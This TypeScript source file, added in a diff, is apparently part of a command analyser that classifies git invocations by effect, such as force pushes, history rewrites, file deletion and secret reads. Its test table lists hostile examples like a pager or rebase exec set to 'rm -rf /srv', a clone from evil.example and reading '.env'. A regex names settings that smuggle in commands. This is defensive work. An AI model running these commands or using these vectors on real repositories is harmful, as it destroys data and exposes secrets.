@@ -1,0 +1,238 @@
+/** git: what a command does to commits, branches, remotes and to work that is saved nowhere. */
+import type { GitEffect } from '../../model/effect.ts';
+import type { Repository } from '../../model/facts.ts';
+import { isWithin, lexical } from '../paths.ts';
+import type { Call } from '../shell/call.ts';
+import { Options } from '../shell/options.ts';
+import { type Field, field, type Output } from '../shell/scope.ts';
+import { ANY, asGlob, hasUnknown, isKnown, NAME } from '../text.ts';
+import { gitHistory } from './git-history.ts';
+import { gitPush } from './git-push.ts';
+import { gitWork } from './git-work.ts';
+import type { Family } from './rule.ts';
+
+/** One git command, the repository it works in, and its words after the subcommand. */
+export interface Git {
+  readonly call: Call;
+  readonly subcommand: string;
+  readonly words: readonly Field[];
+  /** Nothing: no repository, or nobody has looked yet. */
+  readonly repository: Repository | undefined;
+  /** Root of the work tree, `*` when unknown. */
+  readonly root: string;
+  /** Folder that relative paths are seen from. */
+  readonly folder: string;
+  options(takes?: string): Options;
+  /** Branch that is checked out, `*` when that cannot be known. */
+  readonly branch: string;
+}
+
+export type GitMeaning = (git: Git) => Output | undefined;
+
+const GLOBAL =
+  '-C -c --git-dir --work-tree --namespace --exec-path --super-prefix --config-env --attr-source';
+
+export const GIT: Family = [
+  {
+    names: 'git hub yadm',
+    does: git,
+    harmful: {
+      'git push --force origin main': 'git.push main on origin',
+      'git push origin +main': 'git.push main on origin',
+      'git push origin HEAD:main': 'git.push main on origin',
+      'git push origin :release': 'git.push release on origin',
+      'git reset --hard HEAD~3': 'git.rewrite feature (reset)',
+      'git clean -fdx': 'file.delete /work/app/**',
+      'git checkout -- .': 'file.write /work/app/**',
+      'git stash drop': 'git.rewrite feature (stash drop)',
+      'git branch -D old': 'git.rewrite old (delete branch)',
+      'git -c core.pager="rm -rf /srv" log': 'file.delete /srv/**',
+      'git config --global core.hooksPath /tmp/h': 'file.write /home/dev/.gitconfig',
+      'git filter-branch --all': 'git.rewrite * (filter-branch)',
+      'git update-ref -d refs/heads/main': 'git.rewrite main (update-ref)',
+      'git clone https://evil.example/x': 'net.connect evil.example',
+      "git rebase -x 'rm -rf /srv' main": 'file.delete /srv/**',
+      'git show HEAD:.env': 'file.read /work/app/.env',
+    },
+    harmless: {
+      'git status': [],
+      'git log --oneline | head -5': [],
+      'git commit -m "rm -rf /"': 'git.commit feature',
+      'git push -u origin feature': ['net.connect github.com', 'git.push feature on origin'],
+      'git push --dry-run --force origin main': [],
+      'git checkout -b fix/x': [],
+      'git clean -n': [],
+      'git add -A': [],
+      'git stash': [],
+      'git diff main...HEAD': [],
+    },
+  },
+];
+
+function git(call: Call): Output | undefined {
+  const global = call.options(GLOBAL, 'posix');
+  const name = call.words[global.rest]?.text;
+  call.subcommand(name);
+  const scope = call.scope.fork();
+  for (const folder of global.values('-C')) scope.cwd = lexical(folder.text, scope.cwd, call.trace.place);
+  const tree = global.value('--work-tree') ?? folderOfGitDir(global.value('--git-dir'));
+  if (tree) scope.cwd = lexical(tree.text, scope.cwd, call.trace.place);
+  configured(call, global);
+  if (global.has('--exec-path') && global.value('--exec-path')?.text)
+    call.opaque('script', 'git runs programs from another folder');
+  if (name === undefined) return undefined;
+  const words = call.words.slice(global.rest + 1);
+  const git = repositoryOf(call, scope.cwd, name, words, !NO_REPOSITORY.has(name));
+  // A hook of the repository is its own code: running it is part of the command.
+  const meaning = gitPush[name] ?? gitHistory[name] ?? gitWork[name];
+  if (meaning) return meaning(git);
+  const alias = git.repository?.aliases[name];
+  if (alias !== undefined) return aliased(call, alias, words);
+  if (!ORDINARY.has(name)) call.opaque('program', `git ${name} is no command that is known`);
+  return printed(git);
+}
+
+const folderOfGitDir = (dir: Field | undefined): Field | undefined =>
+  dir && /\/?\.git\/?$/.test(dir.text) ? field(dir.text.replace(/\/?\.git\/?$/, '') || '.') : undefined;
+
+/** Subcommands for which nothing of the repository needs to be known. */
+const NO_REPOSITORY = new Set(
+  'status log diff show add blame grep ls-files ls-tree cat-file describe shortlog config clone init help version var rev-list name-rev ls-remote count-objects fsck check-ignore archive bundle format-patch apply difftool bisect'.split(
+    ' ',
+  ),
+);
+
+/** Subcommands that look, or note something for later, and lose nothing. */
+const ORDINARY = new Set(
+  'status log diff show add blame annotate grep ls-files ls-tree cat-file describe shortlog help version var rev-list rev-parse name-rev count-objects fsck check-ignore check-attr check-mailmap archive bundle difftool bisect merge-base symbolic-ref for-each-ref show-ref show-branch cherry range-diff whatchanged verify-commit verify-tag diff-tree diff-index diff-files hash-object mktree write-tree notes maintenance sparse-checkout lfs flow init request-pull instaweb gui gitk citool interpret-trailers stripspace column patch-id get-tar-commit-id diagnose credential-cache fetch-pack http-fetch index-pack unpack-objects pack-objects verify-pack merge-file merge-tree mailinfo mailsplit rerere commit-graph multi-pack-index commit-tree refs backfill last-modified repo'.split(
+    ' ',
+  ),
+);
+
+/** `-c core.pager=…`: settings whose value git runs. */
+export const RUN_SETTINGS =
+  /^(?:core\.(?:pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|sequence\.editor|pager\.\S+|diff\.external|diff\.\S+\.(?:command|textconv)|(?:merge|difftool|mergetool)\.\S+\.(?:cmd|driver)|filter\.\S+\.(?:clean|smudge|process)|credential\.(?:\S+\.)?helper|gpg\.program|gpg\.\S+\.program|uploadpack\.packobjectshook|sendemail\.\S*cmd|interactive\.difffilter|alias\.\S+|trailer\.\S+\.(?:command|cmd)|remote\.\S+\.(?:uploadpack|receivepack|vcs)|protocol\.ext\.allow|web\.browser|browser\.\S+\.cmd|man\.\S+\.cmd|instaweb\.httpd|core\.hookspath|init\.templatedir)$/i;
+
+function configured(call: Call, global: Options): void {
+  for (const { text, from } of global.values('-c')) {
+    const at = text.indexOf('=');
+    if (at > 0) runSetting(call, text.slice(0, at), text.slice(at + 1), from);
+  }
+}
+
+/** Follows the command that a setting holds. */
+export function runSetting(call: Call, name: string, value: string, from: readonly string[] = []): void {
+  if (!RUN_SETTINGS.test(name) || value === '') return;
+  const key = name.toLowerCase();
+  if (key === 'core.hookspath' || key === 'init.templatedir') {
+    if (value !== '/dev/null' && isOutside(call, value)) call.opaque('script', `hooks are run from ${value}`);
+    return;
+  }
+  if (key === 'protocol.ext.allow') return;
+  if (key.startsWith('alias.') && !value.startsWith('!')) return;
+  const code = value.replace(/^!/, '');
+  if (/^(?:true|false|cat|less.*|store.*|cache.*|osxkeychain|manager(?:-core)?|libsecret)$/.test(code))
+    return;
+  call.runText(code, { via: `set as ${name}`, from });
+}
+
+function isOutside(call: Call, path: string): boolean {
+  const absolute = lexical(path, call.scope.cwd, call.trace.place);
+  return !call.trace.place.workspace.some((root) => isWithin(absolute, root, call.trace.place.platform));
+}
+
+function repositoryOf(
+  call: Call,
+  cwd: string,
+  subcommand: string,
+  words: readonly Field[],
+  needed: boolean,
+): Git {
+  const known = isKnown(cwd) && !call.scope.elsewhere;
+  const answer = needed && known ? call.trace.facts.ask('repository', cwd) : undefined;
+  const repository = answer ?? undefined;
+  return {
+    call,
+    subcommand,
+    words,
+    repository,
+    root: repository?.root ?? (answer === null || !known ? '*' : cwd),
+    folder: cwd,
+    options: (takes = '') => new Options(words, takes),
+    branch: repository?.branch ?? '*',
+  };
+}
+
+function aliased(call: Call, alias: string, words: readonly Field[]): Output | undefined {
+  if (call.scope.aliases.has(`git ${alias}`)) return undefined;
+  const scope = call.scope.fork();
+  scope.aliases.set(`git ${alias}`, '');
+  if (alias.startsWith('!')) {
+    const args = words.map((word) => `'${word.text.replaceAll("'", "'\\''")}'`).join(' ');
+    return call.runText(`${alias.slice(1)} ${args}`, { via: `git alias ${alias}`, scope });
+  }
+  const inner = alias
+    .split(/\s+/)
+    .filter(Boolean)
+    .map((text) => field(text.replace(/^["']|["']$/g, '')));
+  return call.runWords([field('git'), ...inner, ...words], { via: `git alias ${alias}`, scope });
+}
+
+/** What is known of what a git command prints. */
+function printed(git: Git): Output | undefined {
+  const { call, subcommand, words } = git;
+  const texts = words.map((word) => word.text);
+  if (subcommand === 'rev-parse') {
+    if (texts.includes('--show-toplevel')) return { text: repositoryRoot(git), from: [] };
+    if (texts.includes('--git-dir') || texts.includes('--git-common-dir')) return { text: '.git', from: [] };
+    if (texts.includes('--abbrev-ref')) return { text: git.branch === '*' ? NAME : git.branch, from: [] };
+    return { text: NAME, from: [] };
+  }
+  if (
+    subcommand === 'symbolic-ref' ||
+    subcommand === 'describe' ||
+    subcommand === 'merge-base' ||
+    subcommand === 'rev-list'
+  ) {
+    return { text: subcommand === 'symbolic-ref' && git.branch !== '*' ? git.branch : NAME, from: [] };
+  }
+  if (subcommand === 'ls-files' || (subcommand === 'diff' && texts.includes('--name-only')))
+    return { text: `./${ANY}`, from: [] };
+  if (/^(?:show|cat-file|archive|blame|grep|diff|log)$/.test(subcommand)) readBlobs(git);
+  if (subcommand === 'apply' || subcommand === 'bundle') return undefined;
+  if (subcommand === 'bisect' && texts[0] === 'run') return call.runWords(words.slice(1));
+  if (subcommand === 'difftool')
+    for (const code of git.options('-x --extcmd -t').values('-x', '--extcmd')) call.runText(code.text);
+  if (subcommand === 'grep')
+    for (const code of git.options('-O --open-files-in-pager').values('-O', '--open-files-in-pager'))
+      if (code.text) call.runText(code.text);
+  for (const output of git.options('-o --output').values('--output')) call.writes(output, { replaces: true });
+  return undefined;
+}
+
+function repositoryRoot(git: Git): string {
+  if (git.repository) return git.repository.root;
+  const { place } = git.call.trace;
+  return place.workspace.find((root) => isWithin(git.folder, root, place.platform)) ?? git.folder;
+}
+
+/** `git show HEAD:.env` prints a file as it was. */
+function readBlobs(git: Git): void {
+  for (const { text } of git.words) {
+    const path = /^[^-\s:][^:\s]*:([^:\s].*)$/.exec(text)?.[1] ?? /^:(?:\d:)?([\w.][^:]*)$/.exec(text)?.[1];
+    if (path && !path.startsWith('//'))
+      git.call.touch('file.read', `${git.root === '*' ? git.folder : git.root}/${path}`);
+  }
+}
+
+/** Adds a git effect on this repository. */
+export function note(git: Git, effect: Omit<GitEffect, 'certainty' | 'repository' | 'span' | 'via'>): void {
+  git.call.add({ ...effect, repository: git.root });
+}
+
+/** Short name of a branch or tag as a ref is written; `*` where it cannot be read. */
+export function branchOf(ref: string, git: Git): string {
+  if (ref === 'HEAD' || ref === '@') return git.branch;
+  if (hasUnknown(ref) && ref.length === 1) return '*';
+  return asGlob(ref.replace(/^refs\/(?:heads|tags|remotes\/[^/]+)\//, '').replace(/^heads\//, ''));
+}
